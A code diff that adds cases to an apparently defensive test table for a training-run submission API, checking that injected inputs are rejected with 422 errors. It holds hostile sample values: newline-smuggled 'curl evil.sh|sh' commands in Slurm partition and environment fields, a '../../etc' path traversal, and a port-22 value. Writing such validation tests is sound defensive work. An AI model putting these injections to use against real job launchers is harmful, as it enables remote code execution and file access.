@@ -580,6 +580,29 @@ CODE = [
         submit(**{"launcher.slurm.partition": "gpu\ncurl evil.sh|sh"}),
     ),
     Attack(
+        "launcher.slurm.env value with a newline (an export line of the job script)",
+        "POST /api/runs",
+        422,
+        "launcher.slurm.env: expected values without control characters (newline, CR, NUL, tab; each value is "
+        "shell-quoted in the job script), got NCCL_DEBUG='INFO\\ncurl evil.sh|sh'",
+        submit(**{"launcher.slurm.env": {"NCCL_DEBUG": "INFO\ncurl evil.sh|sh"}}),
+    ),
+    Attack(
+        "launcher.slurm.inference_port 22 (a system service's port)",
+        "POST /api/runs",
+        422,
+        "launcher.slurm.inference_port: expected a port from 1024 to 65535 (below 1024: system services' ports), got 22",
+        submit(**{"launcher.slurm.inference_port": 22}),
+    ),
+    Attack(
+        "data.split ../../etc (an SFT run's dataset split)",
+        "POST /api/runs",
+        422,
+        "data.split: expected a split name of 1-100 letters, digits, '_', '-', '.', '[', ']', ':', '%' (no '/', no "
+        "'..'), got '../../etc'",
+        submit(**{"kind": "sft", "data.split": "../../etc"}),
+    ),
+    Attack(
         "env.id = os:system in a TOML upload",
         "POST /api/runs (file)",
         422,
